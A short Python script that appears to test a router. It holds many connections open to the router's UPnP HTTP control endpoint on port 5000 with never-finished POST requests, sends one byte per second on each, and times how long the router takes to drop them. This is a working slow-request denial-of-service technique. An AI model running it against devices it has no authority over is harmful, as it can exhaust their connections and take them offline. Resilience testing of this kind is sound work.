"""slow.py ADDRESS COUNT: holds COUNT connections to the router's HTTP port, each with a request that never ends, an
octet a second. Prints "holding", and "over" with the seconds it took until the router had ended all of them."""

import select
import socket
import sys
import time

address, count = sys.argv[1], int(sys.argv[2])
held = [socket.create_connection((address, 5000), 5) for _ in range(count)]
for connection in held:
    connection.sendall(b"POST /igd1/control/wan-ip-connection HTTP/1.1\r\nX: ")
print("holding", flush=True)
start = time.monotonic()
while held:
    ended, _, _ = select.select(held, [], [], 1)
    for connection in ended:
        try:
            over = not connection.recv(4096)
        except OSError:
            over = True
        if over:
            held.remove(connection)
    for connection in held:
        try:
            connection.sendall(b"x")
        except OSError:
            pass  # it is seen to be over in the next round
print("over", round(time.monotonic() - start), flush=True)
